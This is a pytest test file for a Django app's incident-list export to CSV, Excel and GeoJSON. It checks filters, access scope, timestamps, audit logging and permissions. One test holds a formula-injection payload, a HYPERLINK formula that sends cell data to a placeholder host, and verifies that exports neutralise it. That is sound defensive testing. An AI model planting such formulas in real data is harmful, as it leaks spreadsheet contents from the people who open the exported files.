"""The incident list as CSV, Excel and GeoJSON: the list's filters, the reader's scope, the
partnership's wall-clock time, no reporter in the file, streamed, and every download in the
audit trail."""

import csv
import io
import json
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from lagesbild.audit.models import Entry
from lagesbild.incidents.models import Incident
from tests.factories import make_incident
from tests.incidents.helpers import assert_too_many_for_excel

STOCKHOLM = ZoneInfo("Europe/Stockholm")
WHEN = datetime(2026, 11, 24, 21, 30, tzinfo=STOCKHOLM)


@pytest.fixture
def incidents(member_a, reporter_a):
    partnership = member_a.partnership
    soder = partnership.areas.get(name="Söder")
    return [
        make_incident(reporter_a, occurred_at=WHEN, description="Klotter på elskåpet"),
        make_incident(reporter_a, area=soder, occurred_at=WHEN, category="bilbrand"),
        make_incident(reporter_a, occurred_at=WHEN, status=Incident.Status.REJECTED),
    ]


def download(client, fmt: str, **filters) -> tuple:
    response = client.get(reverse("incidents:export", args=[fmt]), filters)
    assert response.status_code == 200
    body = b"".join(response.streaming_content)
    return response, body


def test_csv_is_what_swedish_excel_opens_with_the_lists_rows(login, member_a, incidents):
    response, body = download(login(member_a), "csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="handelser-')
    assert body.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(body.decode().lstrip("\ufeff")), delimiter=";"))
    assert lines[0][:3] == ["Nr", "Inträffade", "Vecka"]
    kept = {int(line[0]) for line in lines[1:]}
    assert kept == {incidents[0].pk, incidents[1].pk}  # the rejected one is left out, as listed
    first = next(line for line in lines if line[0] == str(incidents[0].pk))
    row = dict(zip(lines[0], first, strict=True))
    assert row["Inträffade"] == "2026-11-24 21:30"  # the partnership's wall clock
    assert row["Vecka"] == "2026-W48"
    assert (row["Kategori"], row["Grupp"], row["Område"]) == ("Klotter", "Skadegörelse", "Norr")
    assert row["Status"] == "Ny"
    assert row["Latitud"] == "59,435000"
    assert "reporter_a" not in body.decode()


def test_the_lists_filters_and_the_readers_scope_choose_the_rows(
    login, member_a, coordinator_a, incidents
):
    soder = member_a.partnership.areas.get(name="Söder")
    _response, body = download(login(member_a), "geojson", area=soder.pk)
    features = json.loads(body)["features"]
    assert [f["id"] for f in features] == [incidents[1].pk]
    # A rejected report is for coordinators (and its reporter), in a file as on the page.
    for reader, seen in ((member_a, 2), (coordinator_a, 3)):
        _response, body = download(login(reader), "geojson", status="all")
        assert len(json.loads(body)["features"]) == seen


def test_geojson_points_are_lon_lat_with_the_columns_as_properties(login, member_a, incidents):
    response, body = download(login(member_a), "geojson", q="elskåpet")
    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(body)
    assert collection["type"] == "FeatureCollection"
    (feature,) = collection["features"]
    assert feature["geometry"]["type"] == "Point"
    assert feature["geometry"]["coordinates"] == [pytest.approx(17.905), pytest.approx(59.435)]
    assert feature["properties"]["intraffade"] == "2026-11-24T21:30"
    assert feature["properties"]["beskrivning"] == "Klotter på elskåpet"


def test_xlsx_has_a_header_and_one_row_per_incident_with_real_times(login, member_a, incidents):
    _response, body = download(login(member_a), "xlsx")
    sheet = load_workbook(io.BytesIO(body), read_only=True)["Händelser"]
    table = list(sheet.values)
    assert table[0][:2] == ("Nr", "Inträffade")
    assert sorted(row[0] for row in table[1:]) == [incidents[0].pk, incidents[1].pk]
    assert table[1][1] == datetime(2026, 11, 24, 21, 30)


def test_every_download_is_audited_with_its_filters_and_rows(login, member_a, incidents):
    download(login(member_a), "csv", q="elskåpet", page="3")
    entry = Entry.objects.get(action="incident.export")
    assert entry.actor == member_a.user
    assert entry.partnership == member_a.partnership
    assert entry.details == {"format": "csv", "filters": {"q": "elskåpet"}, "rows": 1}


def test_bad_filters_answer_with_the_lists_messages_and_nothing_is_exported(login, member_a):
    response = login(member_a).get(reverse("incidents:export", args=["csv"]), {"week": "v47"})
    assert response.status_code == 400
    assert "Ange veckan som 2026-W47." in response.content.decode()
    assert not Entry.objects.filter(action="incident.export").exists()


def test_an_unknown_format_is_not_found(login, member_a):
    response = login(member_a).get(reverse("incidents:export", args=["pdf"]))
    assert response.status_code == 404


def test_reporters_do_not_export(login, reporter_a, incidents):
    response = login(reporter_a).get(reverse("incidents:export", args=["csv"]))
    assert response.status_code == 403
    assert "export" not in login(reporter_a).get(reverse("incidents:list")).content.decode()


def test_members_find_the_downloads_with_the_current_filters(login, member_a, incidents):
    page = login(member_a).get(reverse("incidents:list"), {"q": "elskåpet"}).content.decode()
    assert f'href="{reverse("incidents:export", args=["xlsx"])}?q=elsk%C3%A5pet"' in page


def test_a_selection_larger_than_an_excel_sheet_is_refused_with_a_way_out(
    login, member_a, incidents
):
    assert_too_many_for_excel(login(member_a), "incidents", "incident.export", "severity=1", 2)


FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Öppna")'


def test_text_that_looks_like_a_formula_stays_text_in_csv_and_excel(login, member_a, reporter_a):
    # Anyone who may report writes the description; the spreadsheet of whoever exports must
    # not run it (CSV/formula injection).
    make_incident(reporter_a, occurred_at=WHEN, description=FORMULA)
    client = login(member_a)
    _response, body = download(client, "csv")
    lines = list(csv.reader(io.StringIO(body.decode().lstrip("\ufeff")), delimiter=";"))
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["Beskrivning"] == "'" + FORMULA
    assert row["Latitud"] == "59,435000"  # numbers are not text, and keep their form
    _response, body = download(client, "xlsx")
    sheet = load_workbook(io.BytesIO(body))["Händelser"]
    cell = next(c for c in sheet[2] if c.value and str(c.value).startswith("="))
    assert cell.data_type == "s"
    assert cell.value == FORMULA
